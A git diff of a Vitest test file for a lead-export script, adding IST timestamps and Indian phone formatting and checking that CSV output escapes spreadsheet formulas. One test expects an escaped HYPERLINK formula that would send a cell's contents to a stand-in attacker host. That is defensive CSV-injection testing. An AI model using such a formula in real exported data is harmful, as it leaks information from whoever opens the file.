@@ -12,7 +12,7 @@ import { join } from 'node:path'
 import { promisify } from 'node:util'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { createLocalBackend, DEFAULT_MIGRATIONS_DIR, startBackendServer } from '../../scripts/backend/index.ts'
-import { csvField, printable } from '../../scripts/lib/lead-text.ts'
+import { csvField, istTime, printable, spreadsheetPhone } from '../../scripts/lib/lead-text.ts'
 import { LOCAL_ANON_KEY } from '../../src/backend/protocol.ts'
 
 const REPO_ROOT = new URL('../../', import.meta.url)
@@ -77,13 +77,17 @@ describe('npm run leads with hostile text', () => {
   it('--csv gives a spreadsheet text, never a formula', async () => {
     const { stdout } = await leads('--csv')
     const lines = stdout.split('\r\n')
-    expect(lines[0]).toBe('created_at,name,email,phone,service,source_page,message')
+    expect(lines[0]).toBe('created_at (IST),name,email,phone,service,source_page,message')
+    // Times in IST as a spreadsheet reads a date and time.
+    expect(lines[1]).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2},/)
     expect(stdout).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"`)
     expect(stdout).toContain(`'@SUM(1+1)`)
-    expect(stdout).toContain(`'+91 98110 45670`)
+    // A phone number shows as typed in India, with no stray apostrophe and no formula.
+    expect(stdout).toContain(',(+91) 98110 45670,')
+    expect(stdout).not.toContain(`'+91`)
     expect(stdout).not.toMatch(/(^|,)[=+@-]/m)
     const guides = await leads('--csv', '--table', 'guides')
-    expect(guides.stdout.split('\r\n')[0]).toBe('created_at,name,email,phone,viewed_at,pages_viewed,id')
+    expect(guides.stdout.split('\r\n')[0]).toBe('created_at (IST),name,email,phone,viewed_at (IST),pages_viewed,id')
   })
 
   it('shows every invisible or format character written out, in the list, the JSON and the CSV', async () => {
@@ -107,6 +111,13 @@ describe('npm run leads with hostile text', () => {
     expect(printable('श्\u200dरी\u00a0')).toBe('श्\\u200dरी\\xa0')
     expect(csvField('line\nbreak\r\u001b')).toBe('"line\nbreak\\r\\x1b"')
     expect(csvField('-2+3')).toBe("'-2+3")
+    expect(istTime(new Date('2026-11-26T18:45:30Z'))).toBe('2026-11-27 00:15:30')
+    expect(istTime('2026-03-31T00:00:00.000Z')).toBe('2026-03-31 05:30:00')
+    for (const typed of ['+91 98110 45670', '+919811045670', '09811045670', '98110-45670', '91 98110 45670'])
+      expect(spreadsheetPhone(typed), typed).toBe('(+91) 98110 45670')
+    // Not an Indian mobile number: left as typed, for csvField to make safe.
+    expect(spreadsheetPhone('+1 415 555 0100')).toBe('+1 415 555 0100')
+    expect(csvField(spreadsheetPhone('+1 415 555 0100'))).toBe("'+1 415 555 0100")
     expect(csvField('plain, with comma')).toBe('"plain, with comma"')
     expect(csvField(null)).toBe('')
   })
